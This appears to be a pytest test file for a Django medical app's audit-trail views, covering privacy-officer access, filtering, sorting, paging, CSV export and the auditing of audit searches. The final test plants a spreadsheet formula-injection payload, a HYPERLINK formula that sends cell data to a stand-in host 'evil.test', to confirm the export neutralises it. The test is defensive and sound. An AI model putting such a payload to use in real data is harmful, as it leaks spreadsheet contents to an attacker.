import csv
import io
import uuid
from datetime import timedelta

import pytest
from django.http import HttpResponse
from django.urls import path
from django.utils.timezone import now as timezone_now

from ambula.accounts.policy import Capability, requires
from ambula.accounts.roles import Role
from ambula.accounts.tests.factories import UserFactory
from ambula.audit.decorators import records_patient_access
from ambula.audit.models import AuditEvent
from ambula.audit.services import changes_of, record

pytestmark = pytest.mark.django_db
PATIENT = uuid.UUID("01a2200f-0000-7000-8000-000000000001")


@pytest.fixture
def privacy_client(client, sign_in, practice):
    return sign_in(client, UserFactory(username="privacy1", roles=[Role.PRIVACY_OFFICER]))


@pytest.fixture
def trail(physician):
    record(actor=physician, action="auth.signed_in", category="authentication")
    record(
        actor=None,
        username="intruder",
        action="auth.sign_in_failed",
        category="authentication",
        outcome=AuditEvent.Outcome.FAILURE,
        changes={"reason": "password"},
    )
    record(actor=physician, action="audit.disclosures_viewed", category="audit", patient_id=PATIENT)


def listed(response) -> list[str]:
    return [event.action for event in response.context["page"]]


def test_the_privacy_officer_sees_the_trail_newest_first(privacy_client, trail):
    response = privacy_client.get("/audit/")
    assert response.status_code == 200
    sequences = [event.sequence for event in response.context["page"]]
    assert sequences == sorted(sequences, reverse=True)
    assert "auth.sign_in_failed" in listed(response)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("username=INTRUDER", {"auth.sign_in_failed"}),
        ("outcome=failure", {"auth.sign_in_failed"}),
        ("action=auth.signed_in", {"auth.signed_in"}),
        ("kind=login_failed", {"auth.sign_in_failed"}),
        (f"patient_id={PATIENT}", {"audit.disclosures_viewed"}),
    ],
)
def test_filters(privacy_client, trail, query, expected):
    response = privacy_client.get(f"/audit/?{query}")
    assert set(listed(response)) == expected


def test_date_filters_use_whole_days(privacy_client, trail):
    today = timezone_now().date()
    assert listed(privacy_client.get(f"/audit/?date_from={today}&date_to={today}"))
    tomorrow = today + timedelta(days=1)
    assert listed(privacy_client.get(f"/audit/?date_from={tomorrow}")) == []


def test_a_reversed_date_range_is_an_error_not_an_empty_page(privacy_client, trail):
    response = privacy_client.get("/audit/?date_from=2026-05-02&date_to=2026-05-01")
    assert response.status_code == 200
    assert "date_to" in response.context["form"].errors


@pytest.mark.parametrize("column", ["occurred_at", "actor_username", "action", "outcome"])
def test_every_column_sorts_both_ways(privacy_client, trail, column):
    up = [getattr(e, column) for e in privacy_client.get(f"/audit/?sort={column}").context["page"]]
    down = [
        getattr(e, column) for e in privacy_client.get(f"/audit/?sort=-{column}").context["page"]
    ]
    assert up == sorted(up)
    assert down == sorted(down, reverse=True)


def test_an_unknown_sort_falls_back_to_newest_first(privacy_client, trail):
    response = privacy_client.get("/audit/?sort=password")
    assert response.context["sort"] == "-sequence"


def test_large_results_are_paged(privacy_client):
    for _ in range(120):
        record(actor=None, action="auth.signed_in", category="authentication")
    first = privacy_client.get("/audit/?action=auth.signed_in")
    assert len(first.context["page"]) == 50
    assert first.context["page"].paginator.num_pages == 3
    third = privacy_client.get("/audit/?action=auth.signed_in&page=3")
    assert len(third.context["page"]) == 20


def test_searching_the_trail_is_itself_audited(privacy_client, trail):
    privacy_client.get("/audit/?username=intruder")
    event = AuditEvent.objects.filter(action="audit.searched").latest("sequence")
    assert event.actor_username == "privacy1"
    assert changes_of(event) == {"filters": {"username": "intruder"}}


def test_csv_export_streams_every_match_and_is_audited(privacy_client, trail):
    response = privacy_client.get("/audit/export.csv?outcome=failure")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["action"] for row in rows] == ["auth.sign_in_failed"]
    assert rows[0]["actor_username"] == "intruder"
    exported = AuditEvent.objects.get(action="audit.exported")
    assert changes_of(exported) == {"filters": {"outcome": "failure"}}


def test_event_detail_shows_the_decrypted_details(privacy_client, trail):
    failed = AuditEvent.objects.get(action="auth.sign_in_failed")
    response = privacy_client.get(f"/audit/{failed.pk}/")
    assert response.status_code == 200
    assert response.context["changes"] == {"reason": "password"}
    assert privacy_client.get(f"/audit/{uuid.uuid4()}/").status_code == 404


def test_accounting_of_disclosures(privacy_client, trail):
    record(
        actor=None,
        username="records-clerk",
        action="audit.disclosures_viewed",
        category="audit",
        patient_id=uuid.uuid4(),
    )
    response = privacy_client.get(f"/audit/disclosures/?patient_id={PATIENT}")
    assert response.status_code == 200
    assert list(response.context["disclosures"]) == []  # viewing is not a disclosure
    assert (
        AuditEvent.objects.filter(action="audit.disclosures_viewed", patient_id=PATIENT).count()
        == 2
    )
    assert privacy_client.get("/audit/disclosures/?patient_id=nope").context["form"].errors


@pytest.mark.parametrize("role", [Role.FRONT_DESK, Role.PHYSICIAN, Role.BILLER, Role.NURSE])
def test_other_roles_cannot_read_the_trail(client, sign_in, practice, role):
    sign_in(client, UserFactory(username="someone", roles=[role]))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403


@requires(Capability.VIEW_DEMOGRAPHICS)
@records_patient_access(category="demographics", action="audit.disclosures_viewed")
def chart(request, patient_id):
    status = 404 if request.GET.get("missing") else 200
    return HttpResponse("chart", status=status)


urlpatterns = [path("chart/<uuid:patient_id>/", chart)]


@pytest.mark.urls("ambula.audit.tests.test_views")
def test_one_declaration_records_each_look_at_a_patient(signed_in_client, physician):
    before = AuditEvent.objects.count()
    assert signed_in_client.get(f"/chart/{PATIENT}/").status_code == 200
    event = AuditEvent.objects.latest("sequence")
    assert AuditEvent.objects.count() == before + 1
    assert (event.patient_id, event.category, event.actor_id) == (
        PATIENT,
        "demographics",
        physician.pk,
    )
    signed_in_client.get(f"/chart/{PATIENT}/?missing=1")
    assert AuditEvent.objects.count() == before + 1  # a failed response records nothing


def test_opening_an_event_is_itself_audited(privacy_client, trail):
    failed = AuditEvent.objects.get(action="auth.sign_in_failed")
    privacy_client.get(f"/audit/{failed.pk}/")
    viewed = AuditEvent.objects.get(action="audit.event_viewed")
    assert viewed.target_id == str(failed.pk)
    assert viewed.actor_username == "privacy1"


def test_the_export_never_hands_a_spreadsheet_a_formula(privacy_client):
    record(
        actor=None,
        username='=HYPERLINK("http://evil.test/?"&A2,"click")',
        action="auth.sign_in_failed",
        category="authentication",
    )
    response = privacy_client.get("/audit/export.csv?action=auth.sign_in_failed")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["actor_username"].startswith("'=HYPERLINK")
